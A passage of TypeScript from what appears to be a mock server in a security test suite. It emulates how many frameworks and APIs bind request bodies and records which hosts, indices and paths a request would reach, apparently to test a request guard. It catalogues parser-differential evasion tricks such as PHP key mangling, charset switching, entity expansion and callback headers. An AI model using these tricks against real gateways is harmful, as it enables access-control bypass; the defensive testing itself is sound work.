      const gson = (text: string): unknown => JSON.parse(text.replace(/^\s*\)\]\}'\n/, '').replace(/#[^\n]*\n/g, '\n').replace(/"\s*=>?\s*/g, '": ').replace(/;(\s*")/g, ',$1'));
      const json = (text: string): unknown => src.includes('/first/') ? firstWins(text) : src.includes('/stream/') ? firstValue(text) : src.includes('/jsonc/') ? jsonc.parse(text) : src.includes('/gson/') ? gson(text) : JSON.parse(text);
      // (A YAML body as Kubernetes' API server and Jackson's YAML module bind one: as the JSON it makes; twenty-ninth pass.)
      // (An XML body is bound as Jackson's XML module binds one: elements and attributes by local name, CDATA and entities read.)
      const xmlBound = (raw: string): Record<string, string> => {
        // (Internal entities expanded, as a binder whose parser reads the DTD (.NET's XmlTextReader, Woodstox with DTD support) does.)
        const entities = new Map([...raw.matchAll(/<!ENTITY\s+([\w.-]+)\s+"([^"]*)"\s*>/g)].map((m) => [m[1]!, m[2]!] as const));
        const text = raw.replace(/<!DOCTYPE[^[>]*(?:\[[^]*?\])?\s*>/, '').replace(/&([\w.-]+);/g, (e, n: string) => entities.get(n) ?? e);
        const plain = text.replace(/<!\[CDATA\[([^]*?)\]\]>/g, (_, c: string) => c.replaceAll('&', '&amp;').replaceAll('<', '&lt;'));
        const unescape = (v: string): string => v.replace(/&#x([0-9a-f]+);/gi, (_, h: string) => String.fromCodePoint(parseInt(h, 16))).replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&amp;/g, '&');
        const o: Record<string, string> = {};
        for (const m of plain.matchAll(/<(?:[\w.-]+:)?([\w.-]+)[^>]*?>([^<]*)<\//g)) o[m[1]!] = unescape(m[2]!);
        for (const m of plain.matchAll(/\s(?:[\w.-]+:)?([\w.-]+)\s*=\s*"([^"]*)"/g)) o[m[1]!] = unescape(m[2]!);
        return o;
      };
      const xmlType = /xml/.test(String(req.headers['content-type']));
      // (A multipart form's fields bound as a urlencoded form's are, as Django, Rails, PHP and multer do.)
      // (A field in the charset a `_charset_` field names, as Jetty reads it.)
      const multipartBound = (text: string): Record<string, unknown> => {
        const fields = [...text.matchAll(/name="([^"]*)"\r\n\r\n([^]*?)\r\n--/g)].map((m) => [m[1]!, m[2]!] as const);
        // (Under /rack/ a part with no name is named by its Content-ID, as Rack's parser names it, else
        // `<its Content-Type>[]` (twenty-fifth pass), and a name ending `[]` is a list, as Rack's normalize_params builds it.)
        if (src.includes('/rack/')) {
          for (const m of text.matchAll(/\r\n--mb\r\n((?:(?!\r\n\r\n)[^])*)\r\n\r\n([^]*?)(?=\r\n--)/g)) if (!/name=/i.test(m[1]!)) fields.push([/Content-ID:\s*([^\r\n]*)/i.exec(m[1]!)?.[1] ?? `${/Content-Type: (.*)(?:\r\n|$)/i.exec(m[1]!)?.[1] ?? 'text/plain'}[]`, m[2]!]);
          const params: Record<string, unknown> = {};
          for (const [n, v] of fields) if (n.endsWith('[]')) ((params[n.slice(0, -2)] ??= []) as string[]).push(v); else params[n] = v;
          return params;
        }
        const charset = fields.find(([n]) => n === '_charset_')?.[1];
        return Object.fromEntries(fields.map(([n, v]) => [n, charset ? decodedIn(Buffer.from(v, 'latin1'), charset).toString() : v]));
      };
      // (And OData's asynchronous callback, `Prefer: odata.callback; url="…"`, and an `X-Callback-Url` header.)
      const preferred = /odata\.callback\s*;\s*url="?([^";,]*)/i.exec(String(req.headers.prefer ?? ''))?.[1];
      if (preferred) sentTo.push(preferred);
      if (req.headers['x-callback-url']) sentTo.push(String(req.headers['x-callback-url']));
      // (A JSON part is bound to an object, as Spring's @RequestPart binds one; a multipart/related body's JSON part too, as Google's uploads carry metadata.)
      // (Its text as Jackson reads bytes: a UTF-8 byte order mark skipped, UTF-16 told by its NULs.)
      const jacksonText = (text: string): string => {
        const u = text.replace(/^\ufeff/, '');
        return u[1] === '\0' ? Buffer.from(u, 'latin1').toString('utf16le') : u;
      };
      // (Under /spring/ a form bound as Spring's data binder binds property paths: `webhooks[0].url`, `webhook.url`; twenty-eighth pass.)
      const springVars = (pairs: Array<[string, string]>): Record<string, unknown> => {
        const root: Record<string, unknown> = {};
        for (const [n, v] of pairs) {
          const keys = n.split(/[.[\]]+/).filter(Boolean);
          let node = root;
          for (const k of keys.slice(0, -1)) node = (node[k] ??= {}) as Record<string, unknown>;
          node[keys.at(-1)!] = v;
        }
        return root;
      };
      // (A base64 part decoded first, as Jersey's MIMEPull and Jakarta Mail decode a part's transfer encoding.)
      if (body.length && String(req.headers['content-type']).startsWith('multipart/')) for (const m of body.toString().matchAll(/\r\nContent-Type: application\/json[^\r]*\r\n(Content-Transfer-Encoding: base64\r\n)?\r\n([^]*?)\r\n--/g)) walk(JSON.parse(jacksonText(m[1] ? Buffer.from(m[2]!, 'base64').toString() : m[2]!)));
      if (body.length && String(req.headers['content-type']).startsWith('multipart/form-data')) walk(multipartBound(body.toString()));
      // (Under /graphql/ a GraphQL server's arguments, variables substituted: Shopify's `webhookSubscriptionCreate`.)
      else if (body.length && src.includes('/graphql/')) {
        const { query, variables } = JSON.parse(body.toString()) as { query: string; variables?: Record<string, unknown> };
        visitGraphql(parseGraphql(query), { Argument: (node) => void walk(graphqlValue(node.value, variables ?? {}), node.name.value) });
      }
      else if (body.length && !/^(?:text\/plain|multipart\/)/.test(String(req.headers['content-type']))) walk(form ? (src.includes('/php/') ? phpVars([...semi(body.toString())]) : src.includes('/spring/') ? springVars([...semi(body.toString())]) : Object.fromEntries([...semi(body.toString())])) : xmlType ? xmlBound(body.toString()) : /yaml/.test(String(req.headers['content-type'])) ? parseYaml(body.toString(), { merge: true }) : json(body.toString()));
      return void res.writeHead(201, { 'content-length': 0 }).end();
    }
    // Elasticsearch Watcher: on schedule, the watch searches its input indices and sends its webhook (or writes its index).
    if ((req.method === 'PUT' || req.method === 'POST') && /^\/_watcher\/watch\/[^/]+(?:\/_execute)?$/.test(src)) {
      const o = JSON.parse(body.toString()) as { watch?: unknown };
      const w = (o.watch ?? o) as { input?: { search?: { request?: { indices?: string[] } } }; actions?: Record<string, { webhook?: { scheme?: string; host: string; port?: number; path?: string }; index?: { index: string } }> };
      for (const i of w.input?.search?.request?.indices ?? []) esRan.push(`watch-search ${i}`);
      for (const a of Object.values(w.actions ?? {})) {
        if (a.webhook) sentTo.push(`${a.webhook.scheme ?? 'http'}://${a.webhook.host}:${a.webhook.port ?? 80}${a.webhook.path ?? '/'}`);
        if (a.index) esRan.push(`watch-index ${a.index.index}`);
      }
      return void res.writeHead(201, { 'content-length': 2 }).end('ok');
    }
    // Stored scripts, which a reindex or an ingest pipeline runs by id.
    const stored = /^\/_scripts\/([^/]+)$/.exec(src);
    if (stored && (req.method === 'PUT' || req.method === 'POST')) {
      const source = (JSON.parse(body.toString()) as { script: { source: unknown } }).script.source;
      storedScripts.set(stored[1]!, typeof source === 'string' ? source : JSON.stringify(source));
      return void res.writeHead(200, { 'content-length': 2 }).end('ok');
    }
    // A search template (mustache): its source, inline (a string or an object) or stored, rendered
    // with the params (`{{name}}`, `{{#toJson}}name{{/toJson}}`) and run as the search it becomes.
    if (req.method === 'POST' && /^(?:\/[^/]+)?\/_search\/template\/*$/.test(src)) {
      const o = JSON.parse(body.toString()) as { id?: string; source?: unknown; params?: Record<string, unknown> };
      const template = o.id !== undefined ? storedScripts.get(o.id) ?? '{}' : typeof o.source === 'string' ? o.source : JSON.stringify(o.source);
      // (`{{{name}}}` is written raw; `{{name}}` JSON-escaped, as Elasticsearch's mustache does in a JSON template.)
      const rendered = template.replace(/\{\{#toJson\}\}(\w+)\{\{\/toJson\}\}/g, (_, k: string) => JSON.stringify(o.params?.[k])).replace(/\{\{\{(\w+)\}\}\}|\{\{& ?(\w+)\}\}/g, (_, k: string | undefined, k2: string | undefined) => String(o.params?.[k ?? k2!] ?? ''))
        .replace(/\{\{(\w+)\}\}/g, (_, k: string) => JSON.stringify(String(o.params?.[k] ?? '')).slice(1, -1));
      esLookups(JSON.parse(rendered));
      return void res.writeHead(200, { 'content-length': 2 }).end('ok');
    }
    // WS-Addressing (Apache CXF, Axis2): a ReplyTo or FaultTo that is not anonymous gets the answer in a request of its own.
    if (req.method === 'POST' && src === '/ok/soap') {
      const xml = body.toString();
      for (const m of xml.matchAll(/<(?:\w+:)?(?:ReplyTo|FaultTo)\b[^>]*>\s*<(?:\w+:)?Address>([^<]*)</g)) if (!/\/(?:anonymous|none)$/.test(m[1]!.trim())) sentTo.push(m[1]!.trim());
      return void res.writeHead(202, { 'content-length': 0 }).end();
    }
    // S3's logging, replication and inventory configurations: the store writes into the bucket they name.
    if (req.method === 'PUT' && /[?&](?:logging|replication|inventory)/.test(req.url ?? '')) {
      for (const m of body.toString().matchAll(/<(?:TargetBucket|Bucket|LogBucket)>(?:arn:aws:s3:::)?([^<]*)</g)) batchRan.push(`CONFIG /${m[1]}/`);
      return void res.writeHead(200, { 'content-length': 0 }).end();
    }
    // S3's DeleteObjects (path style: the bucket is the path, the keys are in the XML body).
    if (req.method === 'POST' && new URL(req.url ?? '/', 'http://x').searchParams.has('delete')) {
      // As an XML parser reads the key: character references and entities decoded.
      const xmlText = (k: string): string => k.replace(/&#x([0-9a-f]+);/gi, (_, h: string) => String.fromCodePoint(parseInt(h, 16))).replace(/&#(\d+);/g, (_, d: string) => String.fromCodePoint(Number(d))).replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&amp;/g, '&');
      // Go's encoding/xml (MinIO) reads CDATA as text and skips comments and processing instructions inside it.
      const xml = body.toString().replace(/<!--[^]*?-->/g, '').replace(/<\?(?!xml )[^]*?\?>/g, '').replace(/<!\[CDATA\[([^]*?)\]\]>/g, '$1');
      for (const m of xml.matchAll(/<Key\s*>([^<]*)<\/Key\s*>/g)) davFiles.delete(`${src}/${xmlText(m[1]!)}`);
      return void res.writeHead(200, { 'content-length': 0 }).end();
    }
    // A registry's cross-repository blob mount (OCI distribution): the blob of `from` becomes this repository's.
    const upload = /^\/v2\/(.+)\/blobs\/uploads\/?$/.exec(src);
    if (req.method === 'POST' && upload) {
      const q = new URL(req.url ?? '/', 'http://x').searchParams;
      const from = `/v2/${q.get('from')}/blobs/${q.get('mount')}`;
      if (!davFiles.has(from)) return void res.writeHead(202, { 'content-length': 0 }).end();
      davFiles.set(`/v2/${upload[1]}/blobs/${q.get('mount')}`, davFiles.get(from)!);
      return void res.writeHead(201, { 'content-length': 0 }).end();
    }
    // Elasticsearch's SQL and ES|QL, OpenSearch's SQL and PPL: the query's sources are read (here
    // by a pattern enough for the queries sent below).
    if (req.method === 'POST' && /^\/(?:_sql|_query|_plugins\/_(?:sql|ppl))(?:\/translate)?$/.test(src)) {
      esLookups((JSON.parse(body.toString()) as { filter?: unknown }).filter);
      const query = (JSON.parse(body.toString()) as { query: string }).query.replace(/'[^']*'/g, "''").replace(/--.*$/gm, '').replace(/\/\*[^]*?\*\//g, ' ');
      for (const m of query.matchAll(/(?:\bfrom|\bjoin|\bdescribe|\bsource\s*=)\s*[`"]?([\w*-]+)/gi)) esRan.push(`sql ${m[1]}`);
      for (const m of query.matchAll(/,\s*([\w*-]+)/g)) esRan.push(`sql ${m[1]}`);
      // PPL's lookup names its index; a join's right side ends its command (OpenSearchPPLParser.g4).
      for (const m of query.matchAll(/\|\s*lookup\s+([\w-]+)/gi)) esRan.push(`sql ${m[1]}`);
      for (const m of query.matchAll(/\bjoin\b[^|\]]*?([\w-]+)\s*(?:as\s+\w+\s*)?(?=$|\|)/gi)) esRan.push(`sql ${m[1]}`);
      return void res.writeHead(200, { 'content-length': 2 }).end('ok');
    }
    // Elasticsearch's multi-index endpoints: each line (or doc) acts on its `_index`/`index`, else the
    // path's; a comma-separated list is each index; `_aliases` runs its actions; a path's first
    // segment may be a list (`/a,b/_search`).
    // An ingest pipeline that sets _index or reroutes: every document it later processes goes there.
    if (req.method === 'PUT' && src.startsWith('/_ingest/pipeline/')) {
      for (const p of (JSON.parse(body.toString()) as { processors: Array<{ set?: { field: string; value: string }; reroute?: { destination: string }; script?: { id?: string } }> }).processors) {
        if (p.set?.field === '_index') esRan.push(`pipeline-route ${p.set.value}`);
        const routed = /ctx\._index\s*=\s*'([^']*)'/.exec(storedScripts.get(p.script?.id ?? '') ?? '')?.[1];
        if (routed) esRan.push(`pipeline-route ${routed}`);
        if (p.reroute) esRan.push(`pipeline-route ${p.reroute.destination}`);
      }
      return void res.writeHead(200, { 'content-length': 2 }).end('ok');
    }
    // Elasticsearch jobs that copy indices their body names: transform, enrich policy, datafeed, rollup, snapshot restore.
    const job = /^\/(_transform|_enrich\/policy|_ml\/datafeeds|_rollup\/job|_snapshot)\//.exec(src);
    if (job && (req.method === 'PUT' || req.method === 'POST')) {
      const o = JSON.parse(body.toString()) as { source?: { index: string }; match?: { indices: string[] }; indices?: string | string[]; index_pattern?: string };
      for (const i of [o.source?.index ?? [], o.match?.indices ?? [], o.indices ?? [], o.index_pattern ?? []].flat().flatMap((x) => x.split(','))) esRan.push(`job-read ${i}`);
      return void res.writeHead(200, { 'content-length': 2 }).end('ok');
    }
    if (req.method === 'DELETE' && /^\/[^/]+,[^/]+$/.test(src)) {
      for (const i of src.slice(1).split(',')) esRan.push(`delete-index ${i}`);
      return void res.writeHead(200, { 'content-length': 2 }).end('ok');
    }
    // Meilisearch's multi-search and index swap, Typesense's multi_search and aliases (twenty-sixth
    // pass): the indices a body names, as the servers read them (serde_json and nlohmann: last wins).
    // (A Typesense preset stores searches that `?preset=<name>` runs later.)
    if (/^\/presets\/[^/]+$/.test(src) && (req.method === 'PUT' || req.method === 'POST')) {
      for (const m of body.toString().matchAll(/"collection":"(\w+)"|\$(\w+)\(/g)) esRan.push(`typesense-preset ${m[1] ?? m[2]}`);
      return void res.writeHead(200, { 'content-length': 2 }).end('{}');
    }
    const engine = /^(?:\/ok)?\/(multi-search|multi_search|swap-indexes|aliases\/[^/]+?)\/*$/.exec(src);
    if (engine && ['POST', 'PUT'].includes(req.method ?? '')) {
      const o = JSON.parse(body.toString() || '{}') as { queries?: Array<{ indexUid: string }>; searches?: Array<{ collection?: string }>; collection_name?: string } & Array<{ indexes: string[] }>;
      const common = new URL(req.url ?? '/', 'http://x').searchParams.get('collection');
      if (engine[1] === 'multi-search') for (const q of o.queries ?? []) esRan.push(`meili-search ${q.indexUid}`);
      else if (engine[1] === 'multi_search') {
        for (const q of o.searches ?? []) {
          esRan.push(`typesense-search ${q.collection ?? common}`);
          for (const m of JSON.stringify(q).matchAll(/\$(\w+)\(/g)) esRan.push(`typesense-join ${m[1]}`);
        }
      }
      else if (engine[1] === 'swap-indexes') for (const sw of o) for (const i of sw.indexes) esRan.push(`meili-swap ${i}`);
      else esRan.push(`typesense-alias ${o.collection_name}`);
      return void res.writeHead(200, { 'content-length': 2 }).end('{}');
    }
    // (Typesense's search joins the collections `$name(…)` names in filter_by, include_fields, sort_by.)
    const tsSearch = /^\/collections\/([^/]+)\/documents\/search\/*$/.exec(src);
    if (tsSearch && req.method === 'GET') {
      esRan.push(`typesense-search ${tsSearch[1]}`);
      for (const [k, v] of new URL(req.url ?? '/', 'http://x').searchParams) if (['filter_by', 'include_fields', 'sort_by'].includes(k)) for (const m of v.matchAll(/\$(\w+)\(/g)) esRan.push(`typesense-join ${m[1]}`);
      return void res.writeHead(200, { 'content-length': 2 }).end('{}');
    }
    // (A mapping's lookup runtime fields are run by every later search of the index.)
    if ((/^\/[^/_][^/]*\/_mappings?$/.test(src) || /^\/ok3$/.test(src)) && (req.method === 'PUT' || req.method === 'POST')) {
      esLookups(JSON.parse(body.toString()));
      return void res.writeHead(200, { 'content-length': 2 }).end('{}');
    }
    // Elasticsearch splits the path as Java's split("/") does: trailing empty segments dropped.
    const es = /^(?:\/([^/]+))?\/(_bulk|_msearch|_mget|_mtermvectors|_reindex|_aliases|_msearch\/template|_search|_count)\/*$/.exec(src);
    if (es) {
      const own = es[1] ?? '(none)';
      // Date math in an index name (`<deny-{now}>`) resolves by today's date.
      const list = (v: string | string[] | undefined): string[] => [v ?? own].flat().flatMap((i) => i.split(',')).map((i) => i.replace(/^<([^{]*)\{[^}]*\}>$/, '$12026.12.06'));
      // It reads YAML bodies as it reads JSON (XContentType by Content-Type).
      // And JSON with comments (Jackson's ALLOW_COMMENTS): here block comments and whole-line ones.
      const text = /yaml/i.test(String(req.headers['content-type'])) ? JSON.stringify(parseYaml(body.toString())) : body.toString().replace(/\/\*[^]*?\*\//g, ' ').replace(/^[ \t]*\/\/.*$/gm, '');
      const endpoint = es[2]!;
      if (endpoint === '_search' || endpoint === '_count') {
        for (const i of list(own)) esRan.push(`search ${i}`);
        if (text) esLookups(JSON.parse(text));
      }
      else if (endpoint === '_reindex') {
        const r = JSON.parse(text) as { source: { index: string | string[] }; dest: { index: string }; script?: { source: string } };
        for (const i of list(r.source.index)) esRan.push(`reindex-read ${i}`);
        // A script assigning ctx._index sends each document there instead (inline, or stored and run by id).
        const script = r.script?.source ?? storedScripts.get((r.script as { id?: string } | undefined)?.id ?? '') ?? '';
        esRan.push(`reindex-write ${/ctx\._index\s*=\s*'([^']*)'/.exec(script)?.[1] ?? r.dest.index}`);
      } else if (endpoint === '_aliases') {
        for (const action of (JSON.parse(text) as { actions: Array<Record<string, { index?: string; indices?: string[] }>> }).actions) {
          for (const [verb, spec] of Object.entries(action)) for (const i of [spec.index ?? [], spec.indices ?? []].flat()) esRan.push(`alias-${verb} ${i}`);
        }
      } else if (endpoint === '_mget' || endpoint === '_mtermvectors') for (const d of (JSON.parse(text) as { docs: Array<{ _index?: string }> }).docs) esRan.push(`mget ${d._index ?? own}`);
      else {
        // Line by line as BulkRequestParser and MultiSearchRequest read them: Jackson's comments
        // allowed; a blank action line skipped, the line after an action its document whatever it
        // holds; an action its line's first member (the rest never read); a blank search header
        // the defaults, a blank first line skipped.
        const parseLine = (l: string): Record<string, unknown> => JSON.parse(l.replace(/\/\*[^]*?\*\//g, '')) as Record<string, unknown>;
        let header = true;
        for (const [n, line] of text.split('\n').entries()) {
          if (!header) { header = true; continue; }
          if (endpoint !== '_bulk') {
            if (n === 0 && line === '') continue;
            const o = (line.trim() ? parseLine(line) : {}) as { index?: string | string[]; indices?: string | string[] };
            // MultiSearchRequest reads a header's `index` or `indices`.
            for (const i of list(o.indices ?? o.index)) esRan.push(`msearch ${i}`);
            header = false;
          } else {
            if (!line.trim()) continue;
            const stripped = line.replace(/\/\*[^]*?\*\//g, '');
            const verb = JSON.parse(/^\s*\{\s*("(?:[^"\\]|\\.)*")/.exec(stripped)![1]!) as string;
            // The first member's object: the text up to its closing brace (no nesting in metadata).
            const meta = JSON.parse(/^\s*\{\s*"(?:[^"\\]|\\.)*"\s*:\s*(\{[^{}]*\})/.exec(stripped)![1]!) as { _index?: string };
            esRan.push(`${verb} ${list(meta._index ?? own)[0]}`);
            header = verb === 'delete';
          }
        }
      }
      return void res.writeHead(200, { 'content-length': 2 }).end('ok');
    }
    // Facebook's Graph API batch: a `batch` list in the query, a urlencoded or multipart form, or a
    // JSON body (a list, or the list as a string); each call's relative_url runs under the API's root.
    if (req.method === 'POST') {
      const type = String(req.headers['content-type'] ?? '');
      let value = new URL(req.url ?? '/', 'http://x').searchParams.get('batch') ?? undefined;
      // (Under /php/ the query and the form are read as PHP fills $_GET and $_POST, as Facebook's own
      // front end does: ` batch`, `batch%00x` and `batch[0][relative_url]` are (parts of) `batch`.)
      if (src.startsWith('/php/')) {
        const pairs: Array<[string, string]> = [...new URL(req.url ?? '/', 'http://x').searchParams];
        if (type.startsWith('application/x-www-form-urlencoded')) pairs.push(...new URLSearchParams(body.toString()));
        if (type.startsWith('multipart/form-data')) for (const m of body.toString().matchAll(/name="([^"]*)"\r\n\r\n([^]*?)\r\n--/g)) pairs.push([m[1]!, m[2]!]);
        const b = phpVars(pairs).batch;
        value = b === undefined ? undefined : typeof b === 'string' ? b : JSON.stringify(b);
      }
      if (type.startsWith('application/x-www-form-urlencoded')) value ??= new URLSearchParams(body.toString()).get('batch') ?? undefined;
      else if (type.startsWith('multipart/form-data')) {
        // (A part in the charset its own Content-Type declares is decoded so, as busboy decodes a field;
        // one without, in the form's default charset as RFC 7578 §4.6 says and Jetty reads it: a
        // `_charset_` field's value, else the top-level `charset` (Tomcat and Spring decode fields so).)
        const text = body.toString('latin1');
        const m = /name="batch"\r\n(?:Content-Type: [^\r\n]*?charset=([\w-]+)[^\r\n]*\r\n)?\r\n([^]*?)\r\n--/.exec(text);
        // (The last `_charset_` field, as a last-wins reader takes it.)
        const fallback = [...text.matchAll(/name="_charset_"\r\n\r\n([\w-]+)\r\n--/g)].at(-1)?.[1] ?? /;\s*charset="?([\w-]+)/i.exec(type)?.[1];
        const charset = m?.[1] ?? fallback;
        if (m) value ??= (charset ? decodedIn(Buffer.from(m[2]!, 'latin1'), charset) : Buffer.from(m[2]!, 'latin1')).toString();
      }
      else if (type.startsWith('application/json')) {
        // (JSON that does not parse, as a cut stream's may not, is a 400: nothing runs.)
        let parsed: { batch?: unknown };
        try {
          // (Under /stream/ its first value, as Go's json.Decoder and Jackson read it.)
          parsed = (src.includes('/stream/') ? firstValue(body.toString()) : JSON.parse(body.toString())) as { batch?: unknown };
        } catch {
          return void res.writeHead(400, { 'content-length': 0 }).end();
        }
        const b = parsed.batch;
        if (b !== undefined) value ??= typeof b === 'string' ? b : JSON.stringify(b);
      }
      if (value !== undefined) {
        let list: Array<{ method?: string; relative_url: string }>;
        try {
          list = JSON.parse(value) as typeof list;
        } catch {
          return void res.writeHead(400, { 'content-length': 0 }).end();
        }
        for (const c of list) batchRan.push(`${(c.method ?? 'GET').toUpperCase()} ${davClean(new URL(c.relative_url.replace(/^\/*/, ''), 'http://x/').pathname)}`);
        return void res.writeHead(200, { 'content-length': 2 }).end('ok');
      }
    }
    // S3's POST Object (a browser form upload): the `key` field (any case; `${filename}` is the file
    // part's name) is the object written, under the bucket the path names.
    if (req.method === 'POST' && String(req.headers['content-type']).startsWith('multipart/form-data') && src.split('/').filter(Boolean).length <= 1) {
      const text = body.toString('latin1');
      const key = /name="key"\r\n\r\n([^\r]*)\r\n/i.exec(text)?.[1];
      if (key !== undefined) {
        const file = /filename="([^"]*)"\r\n(?:[^\r]+\r\n)*\r\n([^]*?)\r\n--/.exec(text);
        davFiles.set(`${src.replace(/\/$/, '')}/${key.replaceAll('${filename}', file?.[1] ?? '')}`, file?.[2] ?? '');
        return void res.writeHead(204).end();
      }
    }
    // A WebDAV REPORT (calendar-multiget, addressbook-multiget) or SEARCH answers for each href, as
    // SabreDAV does (its XML reader drops comments, reads CDATA and references as text).
    if (req.method === 'BIND' || req.method === 'REBIND') {
      // RFC 5842 (Apache Jackrabbit): the href's resource bound as <collection>/<segment>.
      const text = body.toString();
      const href = /<(?:\w+:)?href>([^<]*)<\/(?:\w+:)?href>/.exec(text)?.[1] ?? '';
      const segment = /<(?:\w+:)?segment>([^<]*)<\/(?:\w+:)?segment>/.exec(text)?.[1] ?? '';
      const from = davClean(new URL(href, 'http://x/').pathname);
      batchRan.push(`${req.method} ${from}`);
      if (davFiles.has(from)) davFiles.set(`${src.replace(/\/$/, '')}/${segment}`, davFiles.get(from)!);
      if (req.method === 'REBIND') davFiles.delete(from);
      return void res.writeHead(201, { 'content-length': 0 }).end();
    }
    if (req.method === 'REPORT' || req.method === 'SEARCH') {
      const text = body.toString().replace(/<!--[^]*?-->/g, '').replace(/<!\[CDATA\[([^]*?)\]\]>/g, '$1');
      let out = '';
      for (const m of text.matchAll(/<(?:\w+:)?href>([^<]*)<\/(?:\w+:)?href>/g)) {
        const href = m[1]!.replace(/&#(\d+);/g, (_, d: string) => String.fromCodePoint(Number(d))).replace(/&amp;/g, '&');
        const p = davClean(new URL(href, 'http://x/').pathname);
        batchRan.push(`${req.method} ${p}`);
        out += `${p}: ${davFiles.get(p) ?? '404'}\n`;
      }
      return void res.writeHead(207, { 'content-type': 'text/plain', 'content-length': Buffer.byteLength(out) }).end(out);
    }
    // Firestore's commit, batchGet and runQuery act on the documents and collections their body names;
    // GCS's compose (JSON and XML APIs) reads the source objects its body lists.
    const fsOp = /^\/v1\/(projects\/p\/databases\/\(default\)\/documents(?:\/[^:]*)?):(\w+)$/.exec(decodeURIComponent(new URL(req.url ?? '/', 'http://x').pathname));
    if (req.method === 'POST' && fsOp) {
      const o = foldedJson(body) as { writes?: Array<{ update?: { name: string }; delete?: string }>; documents?: string[]; structuredquery?: { from: Array<{ collectionid: string }> } };
      for (const w of o.writes ?? []) batchRan.push(`firestore /${w.update?.name ?? w.delete}`);
      for (const d of o.documents ?? []) batchRan.push(`firestore /${d}`);
      for (const f of o.structuredquery?.from ?? []) batchRan.push(`firestore /${fsOp[1]}/${f.collectionid}`);
      return void res.writeHead(200, { 'content-length': 2 }).end('ok');
    }
    const composed = /^\/storage\/v1\/b\/([^/]+)\/o\/([^/]+)\/compose$/.exec(src);
    if (req.method === 'POST' && composed) {
      const o = foldedJson(body) as { sourceobjects: Array<{ name: string }> };
      davFiles.set(`/gcs/${composed[1]}/${composed[2]}`, o.sourceobjects.map((x) => davFiles.get(`/gcs/${composed[1]}/${x.name}`) ?? '').join(''));
      for (const x of o.sourceobjects) batchRan.push(`compose /${composed[1]}/${x.name}`);
      return void res.writeHead(200, { 'content-length': 2 }).end('ok');
    }
    // JSON:API's Atomic Operations (JsonApiDotNetCore): each operation on its href, or on
    // <type>/<id>[/relationships/<name>] under the endpoint's namespace.
    if (req.method === 'POST' && src.endsWith('/operations')) {
      let o: { 'atomic:operations': Array<{ op: string; href?: string; ref?: { type: string; id?: string; relationship?: string }; data?: { type: string; id?: string } }> };
      try {
        o = JSON.parse(body.toString()) as typeof o;
      } catch {
        return void res.writeHead(400, { 'content-length': 0 }).end(); // (a cut stream's JSON: nothing runs)
      }
      for (const op of o['atomic:operations']) {
        const named = op.ref ?? op.data!;
        const p = op.href ?? `${src.slice(0, -'operations'.length)}${named.type}${named.id && op.ref ? `/${named.id}` : ''}${op.ref?.relationship ? `/relationships/${op.ref.relationship}` : ''}`;
        batchRan.push(`${({ add: 'POST', update: 'PATCH', remove: 'DELETE' } as Record<string, string>)[op.op]} ${davClean(p)}`);
      }
      return void res.writeHead(200, { 'content-length': 2 }).end('ok');
    }
    // SCIM's Bulk runs each operation's path under the service root; Azure Resource Manager's batch each request's url.
    if (req.method === 'POST' && (/\/Bulk$/.test(src) || src === '/batch')) {
      const o = foldedJson(body) as { operations?: Array<{ method: string; path: string }>; requests?: Array<{ httpmethod: string; url: string }> };
      for (const op of o.operations ?? []) batchRan.push(`${op.method} ${davClean(src.replace(/Bulk$/, '') + op.path.replace(/^\/+/, ''))}`);
      for (const r of o.requests ?? []) batchRan.push(`${r.httpmethod} ${davClean(new URL(r.url, 'http://x/').pathname)}`);
      return void res.writeHead(200, { 'content-length': 2 }).end('ok');
    }
    // Salesforce's sObject tree and collections write each record as its type; a composite graph runs its calls.
    const sfRecords = /^\/services\/data\/[^/]+\/composite\/(tree\/[^/]+|sobjects|graph)$/.exec(src);
    if ((req.method === 'POST' || req.method === 'PATCH') && sfRecords) {
      const o = JSON.parse(body.toString()) as { records?: unknown[]; graphs?: Array<{ compositeRequest: Array<{ method: string; url: string }> }> };
      if (sfRecords[1] === 'graph') for (const g of o.graphs ?? []) for (const r of g.compositeRequest) batchRan.push(`${r.method} ${davClean(new URL(r.url, 'http://x/').pathname)}`);
      const walk = (records: unknown[]): void => {
        for (const r of records as Array<Record<string, unknown> & { attributes: { type: string } }>) {
          batchRan.push(`${req.method} /services/data/v58.0/sobjects/${r.attributes.type}`);
          for (const v of Object.values(r)) if (v && typeof v === 'object' && 'records' in v) walk((v as { records: unknown[] }).records);
        }
      };
      walk(o.records ?? []);
      return void res.writeHead(200, { 'content-length': 2 }).end('ok');
    }
    // Salesforce's collection delete removes each record its `ids` name, of whatever type.
    if (req.method === 'DELETE' && /^\/services\/data\/[^/]+\/composite\/sobjects$/.test(src)) {
      for (const id of (new URL(req.url ?? '/', 'http://x').searchParams.get('ids') ?? '').split(',')) batchRan.push(`DELETE record ${id}`);
      return void res.writeHead(200, { 'content-length': 2 }).end('ok');
    }
    // Salesforce's composite API runs each of `compositeRequest` (absolute paths) or `batchRequests` (under /services/data/).
    if (req.method === 'POST' && /^\/services\/data\/[^/]+\/composite(\/batch)?$/.test(src)) {
      const o = JSON.parse(body.toString()) as { compositeRequest?: Array<{ method: string; url: string; body?: { records?: Array<{ attributes: { type: string } }> } }>; batchRequests?: Array<{ method: string; url: string }> };
      for (const r of o.compositeRequest ?? o.batchRequests ?? []) {
        const p = davClean(new URL(r.url, 'http://x/services/data/').pathname);
        batchRan.push(`${r.method} ${p}`);
        // A composite may carry an sObject Collections call: each of its records is written as its type.
        if (p.endsWith('/composite/sobjects')) for (const rec of (r as { body?: { records?: Array<{ attributes: { type: string } }> } }).body?.records ?? []) batchRan.push(`${r.method} /services/data/v58.0/sobjects/${rec.attributes.type}`);
      }
      return void res.writeHead(200, { 'content-length': 2 }).end('ok');
    }
    // ASP.NET Core OData's batch route: the decoded path, its literal without case, past a trailing slash.
    const odata = /^(.*\/)\$batch\/*$/i.exec(src);
    if (req.method === 'POST' && odata) {
      const root = odata[1]!;
      const json = String(req.headers['content-type']).startsWith('application/json');
      const jsonRefs = new Map<string, string>();
      // OData 4.01's JSON batch: each of `requests` is run, its url resolved against the service root.
      const ran = json
        // Read as Go's encoding/json reads it into a struct: keys matched without case, the last winning.
        ? (JSON.parse(body.toString(), function (this: Record<string, unknown>, k, v: unknown) { if (k !== k.toLowerCase()) this[k.toLowerCase()] = v; return v; }) as { requests: Array<{ id?: string; method: string; url: string }> }).requests.map((r, _i, _all, refs = jsonRefs) => {
